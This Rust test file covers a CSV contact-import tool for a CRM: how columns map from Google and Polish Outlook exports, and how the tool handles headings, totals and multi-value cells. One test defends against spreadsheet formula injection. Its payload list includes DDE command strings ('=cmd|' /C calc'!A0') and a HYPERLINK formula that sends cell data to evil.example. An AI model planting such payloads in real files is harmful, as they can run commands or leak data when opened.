//! Tables of other programs, rows that are no customers, and cells that a spreadsheet would calculate: what the
//! CRM receives is the judge.

use super::counts;
use super::faults::created;
use crate::support::faults::Faults;
use crate::support::home::Told;
use crate::{Home, NOWHERE};
use csv::{ReaderBuilder, WriterBuilder};
use serde_json::{Value, json};
use std::fs;
use std::path::Path;

/// Imports a table, and what the CRM received.
fn import(table: &str, arguments: &[&str]) -> (Told, Vec<Value>) {
    let server = Faults::start(created());
    let home = Home::new(&server.url(), "");
    let file = home.write_table(table);
    let mut all = vec!["import", file.to_str().unwrap(), "--yes", "--json"];
    all.extend(arguments);
    let told = home.pipe(&all, b"");
    (told, received(server))
}

fn received(server: Faults) -> Vec<Value> {
    let requests = server.finish().requests.into_iter();
    requests
        .map(|request| serde_json::from_slice(&request.body).unwrap())
        .collect()
}

#[test]
fn exports_go_in_as_they_are() {
    let rows = [
        (
            "Google Contacts",
            "First Name,Last Name,File As,Labels,E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value,\
             Phone 2 - Label,Phone 2 - Value,Address 1 - Label,Address 1 - Street,Address 1 - City,Address 1 - Postal Code\n\
             Jan,Kowalski,Kowalski Jan,* myContacts,* Home,jan@kowalski.pl ::: j@k.pl,Mobile,601 234 567,Work,\
             223334455 ::: 223334456,Home,Długa 3,Łódź,90-001\n",
            json!({
                "name": "Jan", "surname": "Kowalski", "email": ["jan@kowalski.pl", "j@k.pl"],
                "phone_number": ["601234567", "223334455", "223334456"],
                "address": {"street": "Długa 3", "postcode": "90-001", "city": "Łódź"}
            }),
        ),
        (
            "Outlook in Polish",
            "Tytuł;Imię;Drugie imię;Nazwisko;Firma;Stanowisko;Adres służbowy — ulica;Adres domowy — ulica;\
             Adres domowy — miasto;Telefon komórkowy;Telefon służbowy;Adres e-mail;Typ e-mail;Notatki\n\
             ;Jan;;Kowalski;Fabryka;Kierownik;;Długa 3;Łódź;601234567;223334455;jan@kowalski.pl;SMTP;VIP, pilne\n",
            json!({
                "name": "Jan", "surname": "Kowalski", "email": "jan@kowalski.pl",
                "phone_number": ["601234567", "223334455"], "note": "VIP, pilne", "job": "Fabryka",
                "job_title": "Kierownik", "address": {"street": "Długa 3", "city": "Łódź"}
            }),
        ),
        (
            "by hand",
            "Lp.;Nazwisko;Tel. kom.;Mail;Ulica;Nr domu;Kod pocztowy;Miasto;Uwagi;Kolumna1\n\
             1;Kowalski;601234567, 601234568;jan@kowalski.pl;Długa;3/4;90-001;Łódź;po 16, nie w piątek;\n",
            json!({
                "surname": "Kowalski", "email": "jan@kowalski.pl", "phone_number": ["601234567", "601234568"],
                "note": "po 16, nie w piątek",
                "address": {"street": "Długa", "building": "3/4", "postcode": "90-001", "city": "Łódź"}
            }),
        ),
        (
            "an address for invoices",
            "Nazwisko;Ulica i numer;Miasto;Ulica do faktury;Miasto do faktury\nKowalski;Długa 3 m. 4;Łódź;Krótka 1;Pabianice\n",
            json!({
                "surname": "Kowalski", "address": {"street": "Długa 3 m. 4", "city": "Łódź"},
                "invoice_address": {"street": "Krótka 1", "city": "Pabianice"}
            }),
        ),
    ];
    for (name, table, expected) in rows {
        let (told, bodies) = import(table, &[]);
        assert_eq!(told.counts(), counts(&[("created", 1)]), "{name}: {told:?}");
        assert_eq!(bodies, [expected], "{name}");
    }
}

#[test]
fn what_is_left_out_is_listed_and_what_is_unclear_is_asked_for() {
    let home = Home::new(NOWHERE, "");
    let file = home.write_table("Lp.;Nazwisko;Drugie imię;Kolumna1;\n1;Kowalski;\u{1b}Maria;;\n");
    let told = home.pipe(&["import", file.to_str().unwrap(), "--check"], b"");
    for words in [
        "→ surname (Surname)  Kowalski",
        "left out, row numbers: Lp.",
        "left out, the API has no such field: Drugie imię (\\u{1b}Maria)",
        "left out, empty: Kolumna1, column 5",
    ] {
        assert!(told.stderr.contains(words), "{words}: {told:?}");
    }
    for (heading, way_out) in [
        ("Imię i nazwisko", "--map \"Imię i nazwisko=surname\""),
        ("Klient", "--map \"Klient=job\""),
        ("Adres", "--map \"Adres=address.street\""),
        ("Telefon/e-mail", "--map \"Telefon/e-mail=email\""),
        ("Kod", "address.postcode, identifier"),
        ("Nazwa", "surname, job"),
        ("Prywatny adres e-mail szefa", "did you mean email?"),
    ] {
        let file = home.write_table(format!("Nazwisko;{heading}\nKowalski;x\n"));
        let told = home.pipe(&["import", file.to_str().unwrap(), "--check"], b"");
        assert_eq!(
            (told.code, told.stdout.as_str()),
            (Some(2), ""),
            "{heading}: {told:?}"
        );
        assert!(told.stderr.contains(way_out), "{heading}: {told:?}");
        assert!(told.stderr.contains(&format!("--map \"{heading}=")), "{told:?}");
    }
}

#[test]
fn headings_and_totals_between_the_rows_are_not_sent() {
    let table = "Lp.;Nazwisko;Imię\n1;Kowalski;Jan\nLp.;Nazwisko;Imię\n2;Suma;Ewa\nRazem;2;\n";
    let (told, bodies) = import(table, &["--map", "Lp.="]);
    assert_eq!(
        told.counts(),
        counts(&[("created", 2), ("invalid", 2)]),
        "{told:?}"
    );
    let sent: Vec<&Value> = bodies.iter().map(|body| &body["surname"]).collect();
    assert_eq!(sent, ["Kowalski", "Suma"]);
    let reasons = |row| -> Vec<String> {
        let problems = told.row(row)["problems"].as_array().unwrap().clone();
        problems
            .iter()
            .map(|problem| problem["reason"].as_str().unwrap().to_owned())
            .collect()
    };
    assert!(reasons(3).contains(&"heading_again".to_owned()), "{told:?}");
    assert!(reasons(5).contains(&"totals".to_owned()), "{told:?}");
}

#[test]
fn several_values_in_a_cell_for_one_are_not_cut() {
    let (told, bodies) = import("Nazwisko;Firma\nKowalski;Fabryka ::: Sklep\n", &[]);
    assert_eq!(told.counts(), counts(&[("invalid", 1)]), "{told:?}");
    assert_eq!(told.row(2)["problems"][0]["reason"], "several_values");
    assert!(bodies.is_empty());
}

/// Cells that a spreadsheet would calculate, or that look like such cells with a mark.
const FORMULAS: [&str; 22] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\n=1",
    "  =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "-",
    "+48-601-234-567",
    "'=1",
    "''=1",
    "'",
    "'s-Hertogenbosch",
    "+48 601 234 567",
    "a;b,c\"d\"\ne",
    "=HYPERLINK(\"https://evil.example?x=\"&A1;\"kliknij\")",
    "-\n=1\n'@x",
];

#[test]
fn rejected_rows_are_harmless_in_a_spreadsheet_and_come_back_unchanged() {
    for separator in [b';', b',', b'\t'] {
        let server = Faults::start(created());
        let home = Home::new(&server.url(), "");
        let mut writer = WriterBuilder::new().delimiter(separator).from_writer(Vec::new());
        writer.write_record(["Nazwisko", "Uwagi", "=custom"]).unwrap();
        for cell in FORMULAS {
            writer.write_record(["", cell, "x"]).unwrap();
        }
        home.write_table(writer.into_inner().unwrap());
        let map = ["--map", "=custom=custom_fields.x", "--yes", "--json"];
        let file = home.path().join("klienci.csv");
        let told = home.pipe(
            &[&["import", file.to_str().unwrap()], map.as_slice()].concat(),
            b"",
        );
        assert_eq!(
            told.counts(),
            counts(&[("invalid", FORMULAS.len() as u64)]),
            "{told:?}"
        );

        // As a spreadsheet reads it, puts the surname in, and writes it.
        let rejected = home.path().join("klienci.rejected.csv");
        give_surname(&rejected, separator);
        let told = home.pipe(
            &[&["import", rejected.to_str().unwrap()], map.as_slice()].concat(),
            b"",
        );
        let created = told.count("created");
        assert!(created == FORMULAS.len() as u64, "{told:?}");
        let notes: Vec<String> = received(server)
            .iter()
            .map(|body| body["note"].as_str().unwrap_or_default().to_owned())
            .collect();
        assert_eq!(notes, FORMULAS.map(str::to_owned));
    }
}

/// Reads a table with the eyes of a spreadsheet, to which no cell may be a formula; and writes it with surnames.
#[track_caller]
fn give_surname(path: &Path, separator: u8) {
    let bytes = fs::read(path).unwrap();
    let mut reader = ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(bytes.strip_prefix("\u{feff}".as_bytes()).unwrap());
    let mut writer = WriterBuilder::new().delimiter(separator).from_writer(Vec::new());
    for (row, record) in reader.records().map(Result::unwrap).enumerate() {
        for cell in &record {
            let first = cell.trim_start().chars().next();
            let phone = cell
                .chars()
                .all(|sign| sign.is_ascii_digit() || matches!(sign, ' ' | '+'));
            let formula = first.is_some_and(|first| "=+-@＝＋－＠".contains(first)) && !phone;
            assert!(!formula && !cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
        }
        let mut cells: Vec<String> = record.iter().map(str::to_owned).collect();
        if row > 0 {
            cells[0] = format!("Nowak{row}");
        }
        writer.write_record(cells).unwrap();
    }
    fs::write(path, writer.into_inner().unwrap()).unwrap();
}

#[test]
fn the_table_of_another_program_keeps_its_apostrophes() {
    let (told, bodies) = import("Nazwisko;Uwagi\nKowalski;'=1\n", &[]);
    assert_eq!(told.counts(), counts(&[("created", 1)]), "{told:?}");
    assert_eq!(bodies[0]["note"], "'=1");
}
